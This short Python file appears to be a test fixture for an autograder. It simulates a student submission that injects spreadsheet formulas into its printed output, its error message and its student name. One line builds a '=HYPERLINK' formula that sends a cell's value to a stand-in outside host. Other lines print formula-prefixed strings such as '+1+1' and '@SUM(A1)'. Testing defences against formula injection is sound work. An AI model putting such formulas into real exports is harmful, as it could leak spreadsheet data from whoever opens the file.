# number = 73
# title = "Puts spreadsheet formulas into what it prints and raises, and into the student name"
# residual_add = ["failed", "error"]
# student = "=1+1"
# [never]
# csv = ["=HYPERLINK(", "+1+1"]

import torch

TEXT = '=HYPERLINK("http://example.org/?" & A1, "your marks")'


def residual_add(x, sublayer):
    print("+1+1", "-1+1", "@SUM(A1)", "\t=1+1", sep="\n")
    raise RuntimeError(TEXT)


def chain_gradient(d, residual):
    return torch.prod(1 + d if residual else d)


def zero_case_output(x, norm, placement):
    if placement in ("none", "pre"):
        return x
    if placement == "post":
        return norm(x)
    raise ValueError(placement)
